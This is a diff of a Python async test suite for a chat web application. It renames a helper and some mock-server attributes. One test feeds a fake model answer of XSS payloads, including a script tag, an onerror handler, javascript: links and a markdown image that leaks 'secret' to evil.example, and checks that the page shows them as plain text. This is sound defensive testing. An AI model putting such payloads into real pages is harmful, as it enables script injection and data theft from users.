@@ -48,7 +48,7 @@ class ChatUser:
         sent = files or [("file", ("", b"", "application/octet-stream"))]
         return await self.client.post(path, data=form, files=sent, headers=SCRIPT)
 
-    async def asked(self, text: str, path: str = "/chat", **more: Any) -> str:
+    async def ask_path(self, text: str, path: str = "/chat", **more: Any) -> str:
         """Send a message, wait for its answer and return the path of the chat."""
         answer = await self.ask(text, path, **more)
         assert answer.status_code == 202, answer.text
@@ -86,11 +86,14 @@ async def test_answer_is_streamed_stored_and_charged(any_database_gateway: Gatew
     # 10 tokens in, 4 of them cached, and 3 out.
     assert events[-1][1]["total"] == "0.0038"
     assert (await gateway.settled())[0]["cost_usd"] == "0.0038"
-    await person.asked("say 2 words", where)
+    await person.ask_path("say 2 words", where)
     page = await person.page(where)
     assert page.count('class="message answer"') == page.count('class="message question"') == 2
     assert "3 × 1000.00/M = 0.0038 USD</span>" in page
-    assert gateway.acme.seen[-1].document["messages"][1] == {"role": "assistant", "content": "word word word"}
+    assert gateway.acme.requests[-1].document["messages"][1] == {
+        "role": "assistant",
+        "content": "word word word",
+    }
     conversation_id = where.rpartition("/")[2]
     items = await gateway.openai().conversations.items.list(conversation_id, order="asc")
     assert [getattr(item, "role", "") for item in items.data] == ["user", "assistant"] * 2
@@ -123,7 +126,7 @@ async def test_stop_ends_the_call_and_charges_what_was_delivered(any_database_ga
             await asyncio.sleep(0.01)
         assert (await person.act(f"{where}/stop", SCRIPT)).status_code == 202
         events = await reading
-        await gateway.acme.left.wait()
+        await gateway.acme.disconnect_event.wait()
     assert "Stopped." in events[-1][1]["html"]
     call = (await gateway.settled())[0]
     words = events[-1][1]["html"].count("word") - call["model"].count("word")
@@ -146,10 +149,10 @@ async def test_answer_of_a_removed_member_is_stopped(gateway: Gateway) -> None:
     gateway.acme.mode = "trickle"
     assert (await person.ask("say 20 words")).status_code == 202
     async with asyncio.timeout(120):
-        while not gateway.acme.seen:  # noqa: ASYNC110 - the server has no event for a request
+        while not gateway.acme.requests:  # noqa: ASYNC110 - the server has no event for a request
             await asyncio.sleep(0.01)
         await write(members.remove(app.account.id, member.id))
-        await gateway.acme.left.wait()
+        await gateway.acme.disconnect_event.wait()
     call = (await gateway.settled())[0]
     assert (call["status"], await gateway.pending()) == ("left", 0)
     assert await app.faults() == ()
@@ -169,11 +172,11 @@ async def test_answer_stops_when_its_login_session_ends(any_database_gateway: Ga
         "suspension": customers.suspend(app.operator.owner, app.account.id, suspended=True),
     }
     async with asyncio.timeout(120):
-        while not gateway.acme.seen:  # noqa: ASYNC110 - the server has no event for a request
+        while not gateway.acme.requests:  # noqa: ASYNC110 - the server has no event for a request
             await asyncio.sleep(0.01)
         assert await app.server.connections.check() == 0
         await app.database.write(ends[end])
-        await gateway.acme.left.wait()
+        await gateway.acme.disconnect_event.wait()
     if end == "suspension":
         await app.database.write(customers.suspend(app.operator.owner, app.account.id, suspended=False))
     call = (await gateway.settled())[0]
@@ -184,7 +187,7 @@ async def test_answer_stops_when_its_login_session_ends(any_database_gateway: Ga
 async def test_failed_answer_is_free_and_retried_in_place(gateway: Gateway) -> None:
     person = await ChatUser.of(gateway)
     gateway.acme.modes = ["fail"]
-    where = await person.asked("say 3 words")
+    where = await person.ask_path("say 3 words")
     page = await person.page(where)
     assert "Try again" in page
     assert (await gateway.settled())[0]["cost_usd"] == "0.00"
@@ -198,12 +201,12 @@ async def test_failed_answer_is_free_and_retried_in_place(gateway: Gateway) -> N
 
 async def test_edit_creates_a_version_and_branch_creates_a_chat(any_database_gateway: Gateway) -> None:
     person = await ChatUser.of(any_database_gateway)
-    first = await person.asked("say 1 words")
-    await person.asked("say 2 words", first)
+    first = await person.ask_path("say 1 words")
+    await person.ask_path("say 2 words", first)
     page = await person.page(first)
     question, answer = person.ids(page, "question")[1], person.ids(page, "answer")[0]
     assert "say 2 words</textarea>" in await person.page(f"{first}?edit={question}")
-    second = await person.asked("say 4 words", first, edited=question)
+    second = await person.ask_path("say 4 words", first, edited=question)
     third = (await person.act(f"{second}/again", SCRIPT, item=question, model="acme/small")).status_code
     assert third == 404
     edited = person.ids(await person.page(second), "question")[1]
@@ -229,11 +232,11 @@ async def test_list_of_chats_is_paged_with_versions(
 ) -> None:
     monkeypatch.setattr(pages, "_CHATS", 2)
     person = await ChatUser.of(any_database_gateway)
-    oldest = await person.asked("say 1 words")
-    second = await person.asked("say 2 words")
-    third = await person.asked("say 3 words")
+    oldest = await person.ask_path("say 1 words")
+    second = await person.ask_path("say 2 words")
+    third = await person.ask_path("say 3 words")
     question = person.ids(await person.page(third), "question")[0]
-    edits = [await person.asked("say 4 words", third, edited=question) for _ in range(2)]
+    edits = [await person.ask_path("say 4 words", third, edited=question) for _ in range(2)]
     pattern = re.compile(r'<li><a href="([^"]+)"')
     *result, older = pattern.findall(await person.page("/chat"))
     assert result == [edits[1], second]
@@ -245,9 +248,9 @@ async def test_edit_of_an_earlier_message_and_of_files(
 ) -> None:
     monkeypatch.setattr(thread_view, "MESSAGES", 2)
     person = await ChatUser.of(gateway)
-    where = await person.asked("say 1 words")
+    where = await person.ask_path("say 1 words")
     earliest = person.ids(await person.page(where), "question")[0]
-    await person.asked("", where, files=[("file", ("red.png", _png(), "image/png"))])
+    await person.ask_path("", where, files=[("file", ("red.png", _png(), "image/png"))])
     page = await person.page(where)
     assert earliest not in page
     assert "say 1 words</textarea>" in await person.page(f"{where}?edit={earliest}")
@@ -262,7 +265,7 @@ async def test_hostile_answer_is_only_text(gateway: Gateway) -> None:
         "<script>alert(1)</script> <img src=x onerror=alert(1)> [a](javascript:alert(1)) "
         "![steal](https://evil.example/?q=secret) $\\href{javascript:alert(1)}{x}$ [ok](https://ok.example)"
     )
-    where = await person.asked("hello")
+    where = await person.ask_path("hello")
     page = await person.page(where)
     content = page.partition('<div class="content">')[2].partition("</div>")[0]
     assert "<script" not in content
@@ -275,8 +278,8 @@ async def test_hostile_answer_is_only_text(gateway: Gateway) -> None:
 async def test_files_reach_the_model_and_their_account_only(gateway: Gateway) -> None:
     person = await ChatUser.of(gateway)
     files = [("file", ("dot.png", _png(), "image/png")), ("file", ("notes.csv", b"a,b\n1,2\n", "text/csv"))]
-    where = await person.asked("What is this?", files=files)
-    content = gateway.acme.seen[-1].document["messages"][0]["content"]
+    where = await person.ask_path("What is this?", files=files)
+    content = gateway.acme.requests[-1].document["messages"][0]["content"]
     assert content[0]["image_url"]["url"].startswith("data:image/png;base64,")
     assert content[1]["text"] == '<document name="notes.csv">\na,b\n1,2\n</document>'
     result = re.findall(r"/chat-files/\w+", await person.page(where))
@@ -336,8 +339,8 @@ async def test_memory_is_shown_to_the_model_and_cited(gateway: Gateway) -> None:
     person = await ChatUser.of(gateway)
     await put(gateway.app, "ships/zeppelin", "# Zeppelin\n\nThe zeppelin lifts with hydrogen.\n")
     gateway.acme.answer = "With hydrogen [1], not helium [7]. `a[1]`"
-    where = await person.asked("@memory what lifts the zeppelin?")
-    system = gateway.acme.seen[-1].document["messages"][0]
+    where = await person.ask_path("@memory what lifts the zeppelin?")
+    system = gateway.acme.requests[-1].document["messages"][0]
     assert system["role"] == "system"
     # A page cannot forge the code of the marks, which is new in each request.
     code = re.search(r"<<page ([0-9a-f]{12}) \[1\] Zeppelin \(ships/zeppelin\)>>\n", system["content"])
@@ -353,7 +356,7 @@ async def test_memory_is_shown_to_the_model_and_cited(gateway: Gateway) -> None:
 async def test_draw_answers_with_an_image_and_its_receipt(tmp_path: Path) -> None:
     async with running_gateway(tmp_path, models=app_catalog.models_document()) as gateway:
         person = await ChatUser.of(gateway)
-        where = await person.asked("draw a red fox")
+        where = await person.ask_path("draw a red fox")
         page = await person.page(where)
         result = re.search(r'<img src="(/media/[^"]+)" alt="a red fox"', page)
         assert result is not None
@@ -361,7 +364,7 @@ async def test_draw_answers_with_an_image_and_its_receipt(tmp_path: Path) -> Non
         run = re.search(r'href="(/predictions/pred_\w+)"', page)
         assert run is not None
         assert (await person.client.get(run[1])).status_code == 200
-        assert gateway.acme.seen == []
+        assert gateway.acme.requests == []
         assert await gateway.app.faults() == ()
 
 
